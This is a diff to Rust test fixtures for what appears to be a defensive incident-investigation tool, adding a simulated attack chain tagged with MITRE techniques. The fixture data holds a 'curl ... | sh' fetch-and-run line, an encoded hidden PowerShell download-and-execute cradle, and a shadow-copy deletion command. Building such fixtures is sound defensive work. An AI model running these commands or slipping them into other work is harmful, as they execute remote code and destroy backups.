@@ -38,6 +38,15 @@ pub(crate) fn nothing() -> Investigation {
     }
 }
 
+/// An incident of one alert and no step.
+pub(crate) fn alert_only() -> Incident {
+    let mut incident = cloud();
+    let alert = &mut incident.alerts[0];
+    alert.matched.insert("CommandLine".into(), "curl http://198.51.100.7/x | sh on build01.corp.example".into());
+    incident.root_cause.chain.clear();
+    incident
+}
+
 pub(crate) fn time(text: &str) -> Option<Timestamp> {
     Some(text.parse().unwrap())
 }
@@ -75,6 +84,7 @@ pub(crate) fn step(
         target_kind,
         target: target.into(),
         host: host.map(Into::into),
+        detail: None,
         evidence: vec![record("C:\\cases\\night\\ws01-sysmon.evtx", 4711, "windows.sysmon")],
         alerts: vec![],
         techniques: vec![],
@@ -86,6 +96,11 @@ pub(crate) fn step(
 fn alerted(mut step: Step, alert: &str, technique: &str) -> Step {
     step.alerts.push(alert.into());
     step.techniques.push(technique.into());
+    step
+}
+
+fn detailed(mut step: Step, detail: &str) -> Step {
+    step.detail = Some(detail.into());
     step
 }
 
@@ -128,7 +143,10 @@ fn host_chain() -> Vec<Step> {
             (Process, WORD, ws),
         ),
         alerted(
-            step("2024-05-01T22:58:41Z", (Process, WORD), "launched", (Process, SHELL, ws)),
+            detailed(
+                step("2024-05-01T22:58:41Z", (Process, WORD), "launched", (Process, SHELL, ws)),
+                "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwAHMAOgAvAC8AYwBkAG4ALgB1AHAAZAA4AC0AcwB0AGEAdABpAGMALgB6AG8AbgBlAC8AcAAnACkA",
+            ),
             "Suspicious Microsoft Office Child Process",
             "T1204.002",
         ),
@@ -166,7 +184,10 @@ fn host_chain() -> Vec<Step> {
             "T1569.002",
         ),
         alerted(
-            step("2024-05-02T00:15:02Z", (Process, SERVICE), "launched", (Process, VSS, dc)),
+            detailed(
+                step("2024-05-02T00:15:02Z", (Process, SERVICE), "launched", (Process, VSS, dc)),
+                "vssadmin delete shadows /all /quiet",
+            ),
             "Shadow Copies Deletion Using Operating Systems Utilities",
             "T1490",
         ),
